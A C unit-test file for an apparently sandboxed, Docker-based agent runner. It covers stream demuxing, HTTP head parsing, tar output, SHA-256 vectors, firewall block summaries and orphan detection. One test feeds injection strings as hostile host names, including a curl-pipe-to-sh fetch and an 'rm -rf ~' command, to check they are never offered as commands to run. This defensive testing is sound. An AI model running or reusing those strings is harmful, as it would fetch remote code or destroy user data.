/* Wire-level pure parts: attach stream demux, HTTP head parsing, tar
 * stream, SHA-256, the blocked summary, orphan detection. */
#include "tap.h"

#include <cjson/cJSON.h>
#include <stdlib.h>
#include <unistd.h>

#include "common/buf.h"
#include "runner/docker/container.h"
#include "runner/docker/hijack.h"
#include "runner/docker/mux.h"
#include "runner/docker/pod.h"
#include "common/sha256.h"
#include "runner/docker/sweep.h"
#include "runner/docker/tar.h"

struct demux_out {
	struct buf out, err;
};

static void collect(void *ctx, int stream, const char *d, size_t n)
{
	struct demux_out *o = ctx;

	if (stream == 1)
		(void)!buf_append(&o->out, d, n);
	else
		(void)!buf_append(&o->err, d, n);
}

int main(void)
{
	plan(33);
	/* mux: frames split at every possible point */
	{
		const unsigned char stream[] = {
			1, 0, 0, 0, 0, 0, 0, 5, 'h', 'e', 'l', 'l', 'o',
			2, 0, 0, 0, 0, 0, 0, 3, 'e', 'r', 'r',
			1, 0, 0, 0, 0, 0, 0, 0,
			1, 0, 0, 0, 0, 0, 0, 1, '!',
		};
		int good = 1;

		for (size_t chunk = 1; chunk <= sizeof stream; chunk++) {
			struct demux_out o;
			struct mux m;

			buf_init(&o.out, 1024);
			buf_init(&o.err, 1024);
			mux_init(&m, collect, &o);
			for (size_t i = 0; i < sizeof stream; i += chunk)
				mux_feed(&m, (const char *)stream + i,
					 i + chunk > sizeof stream ? sizeof stream - i : chunk);
			if (!o.out.data || strcmp(o.out.data, "hello!") || !o.err.data || strcmp(o.err.data, "err"))
				good = 0;
			buf_free(&o.out);
			buf_free(&o.err);
		}
		ok(good, "demux gives stdout/stderr right for every chunking");
	}
	/* hijack response head */
	{
		int st = 0;
		const char *h101 = "HTTP/1.1 101 UPGRADED\r\nContent-Type: application/vnd.docker.raw-stream\r\n"
				   "Connection: Upgrade\r\nUpgrade: tcp\r\n\r\nEARLY";
		const char *h200 = "HTTP/1.1 200 OK\r\nContent-Type: application/vnd.docker.raw-stream\r\n\r\n";

		is_int(http_parse_head(h101, strlen(h101), &st), strlen(h101) - 5, "101 head length (early bytes kept)");
		is_int(st, 101, "101 accepted");
		ok(http_parse_head(h200, strlen(h200), &st) > 0 && st == 200, "200 accepted (downgrading proxies)");
		is_int(http_parse_head("HTTP/1.1 101 UP", 15, &st), 0, "incomplete head");
		is_int(http_parse_head("garbage\r\n\r\n", 11, &st), -1, "invalid head");
	}
	/* tar stream: sizes, header checksum, and that GNU tar reads it */
	{
		struct tar_stream t;
		struct cs_err e = { 0 };
		char b[700];
		unsigned char hdr[512];
		unsigned int sum = 0, want;
		FILE *f;
		size_t n, total = 0;

		tar_init(&t);
		ok(tar_add_data(&t, "Dockerfile", "FROM x\n", 7, 0644, &e) == 0, "tar: add data");
		ok(tar_add_data(&t, "big", "0123456789", 10, 0755, &e) == 0, "tar: add second");
		is_int(tar_size(&t), 512 + 512 + 512 + 512 + 1024, "tar size: headers, padded data, end blocks");
		tar_header(hdr, "Dockerfile", 7, 0644);
		memset(hdr + 148, ' ', 8);
		for (int i = 0; i < 512; i++)
			sum += hdr[i];
		tar_header(hdr, "Dockerfile", 7, 0644);
		want = (unsigned int)strtoul((char *)hdr + 148, NULL, 8);
		is_int(sum, want, "ustar header checksum");
		f = fopen("/tmp/cs-unit.tar", "w");
		while ((n = tar_read(&t, b, sizeof b)) > 0 && n != (size_t)-1) {
			fwrite(b, 1, n, f);
			total += n;
		}
		fclose(f);
		is_int(total, tar_size(&t), "streamed exactly tar_size bytes");
		ok(system("tar -tvf /tmp/cs-unit.tar 2>/dev/null | grep -q 'rwxr-xr-x.* 10 .*big'") == 0,
		   "GNU tar reads the stream (mode and size)");
		ok(system("test \"$(tar -xOf /tmp/cs-unit.tar Dockerfile)\" = 'FROM x'") == 0, "content intact");
		unlink("/tmp/cs-unit.tar");
		tar_close(&t);
	}
	/* A file entry keeps its own copy of the path: the caller's buffer may
	 * be gone (or reused) before the stream is read. */
	{
		struct tar_stream t;
		struct cs_err e = { 0 };
		char path[64], b[2048];
		size_t n, total = 0;
		FILE *f = fopen("/tmp/cs-unit-tarfile", "w");

		fputs("file-bytes", f);
		fclose(f);
		tar_init(&t);
		snprintf(path, sizeof path, "/tmp/cs-unit-tarfile");
		ok(tar_add_file(&t, "f", path, 0644, &e) == 0, "tar: add a file (%s)", e.msg);
		memset(path, 'x', sizeof path - 1);
		while ((n = tar_read(&t, b + total, sizeof b - total)) > 0 && n != (size_t)-1)
			total += n;
		ok(n == 0 && total == tar_size(&t) && memcmp(b + 512, "file-bytes", 10) == 0,
		   "tar: the file is read through the path given at add time, after the buffer changed");
		tar_close(&t);
		unlink("/tmp/cs-unit-tarfile");
	}
	/* sha256 test vectors (FIPS 180-2) */
	{
		struct sha256 s;
		char hex[65];
		char million[1000];

		sha256_init(&s);
		sha256_update(&s, "abc", 3);
		sha256_hex(&s, hex);
		is_str(hex, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad", "sha256(abc)");
		sha256_init(&s);
		sha256_hex(&s, hex);
		is_str(hex, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855", "sha256('')");
		sha256_init(&s);
		memset(million, 'a', sizeof million);
		for (int i = 0; i < 1000; i++)
			sha256_update(&s, million, sizeof million);
		sha256_hex(&s, hex);
		is_str(hex, "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0", "sha256(a x 1e6)");
	}
	/* blocked summary */
	{
		cJSON *r = cJSON_Parse("[{\"record\":\"summary\",\"type\":\"dns-refused\",\"name\":\"pkgs.example.org\",\"count\":12},"
				       "{\"record\":\"summary\",\"type\":\"conn\",\"addr\":\"203.0.113.5\",\"proto\":\"tcp\",\"port\":443,\"count\":3},"
				       "{\"record\":\"event\",\"type\":\"dns-refused\",\"name\":\"x.org\"},"
				       "{\"record\":\"summary\",\"type\":\"overflow\",\"dropped\":7,\"events_suppressed\":0}]");
		struct buf t;
		int lines;

		buf_init(&t, 4096);
		lines = pod_summary_text(r, &t);
		is_int(lines, 3, "three summary lines (events are for the log)");
		ok(t.data && strstr(t.data, "7 records dropped"), "says when the firewall's tables overflowed");
		ok(t.data && strstr(t.data, "pkgs.example.org \xc3\x97" "12") &&
		   strstr(t.data, "add with --allow pkgs.example.org"), "names the blocked host and the fix");
		ok(t.data && strstr(t.data, "203.0.113.5 port 443/tcp") && strstr(t.data, "--allow 203.0.113.5"),
		   "names the blocked address");
		buf_free(&t);
		cJSON_Delete(r);
		/* the first-bytes check's records */
		r = cJSON_Parse("[{\"record\":\"summary\",\"type\":\"flow-refused\",\"addr\":\"192.0.2.80\",\"port\":443,"
				"\"proto\":\"tcp\",\"name\":\"other.test\",\"reason\":\"TLS name other.test not allowed\",\"count\":2},"
				"{\"record\":\"summary\",\"type\":\"flow-refused\",\"addr\":\"192.0.2.80\",\"port\":443,"
				"\"proto\":\"tcp\",\"reason\":\"no SNI\",\"count\":1},"
				"{\"record\":\"summary\",\"type\":\"quic-refused\",\"addr\":\"192.0.2.80\",\"proto\":\"udp\",\"port\":443,\"count\":4,\"name\":\"allowed.test\"}]");
		buf_init(&t, 4096);
		lines = pod_summary_text(r, &t);
		is_int(lines, 3, "flow-refused and quic-refused summary lines");
		ok(t.data && strstr(t.data, "192.0.2.80 port 443/tcp (TLS name other.test not allowed) \xc3\x97" "2") &&
		   strstr(t.data, "add with --allow other.test") && strstr(t.data, "(no SNI)") &&
		   strstr(t.data, "must name its site"), "a refused flow: address, reason, the fix");
		ok(t.data && strstr(t.data, "QUIC (udp/443) to 192.0.2.80 via allowed.test \xc3\x97" "4"),
		   "a refused QUIC flow says so");
		buf_free(&t);
		cJSON_Delete(r);
		/* names the agent chose are never offered as a command to run */
		r = cJSON_Parse("[{\"record\":\"summary\",\"type\":\"dns-refused\",\"name\":\"$({curl,-s,x.io/a}|sh)\",\"count\":1},"
				"{\"record\":\"summary\",\"type\":\"flow-refused\",\"addr\":\"192.0.2.80\",\"port\":443,"
				"\"name\":\"a;rm -rf ~\",\"reason\":\"TLS name not allowed\",\"count\":1}]");
		buf_init(&t, 4096);
		pod_summary_text(r, &t);
		ok(t.data && !strstr(t.data, "--allow $(") && strstr(t.data, "not a host name: cannot be allowed"),
		   "a refused query name that is no host name: no allow command offered");
		ok(t.data && !strstr(t.data, "--allow a;rm") && strstr(t.data, "no host name"),
		   "a refused SNI that is no host name: no allow command offered");
		buf_free(&t);
		cJSON_Delete(r);
	}
	/* orphans */
	{
		struct runner_identity self;
		char pid[32], start[32];

		runner_identity_init(&self);
		snprintf(pid, sizeof pid, "%ld", self.pid);
		snprintf(start, sizeof start, "%llu", self.start_ticks);
		ok(runner_alive(pid, start, self.boot_id, self.pidns, &self), "our own runner is alive");
		ok(!runner_alive(pid, "1", self.boot_id, self.pidns, &self), "reused pid: runner gone");
		ok(!runner_alive("999999999", start, self.boot_id, self.pidns, &self), "dead pid: runner gone");
		ok(!runner_alive(pid, start, "other-boot", self.pidns, &self), "other boot: runner gone");
		ok(runner_alive("999999999", start, self.boot_id, "pid:[1]", &self),
		   "another pid namespace: left alone");
		ok(strlen(self.run_id) == 32, "run id is 128 random bits");
	}
	return tap_done();
}
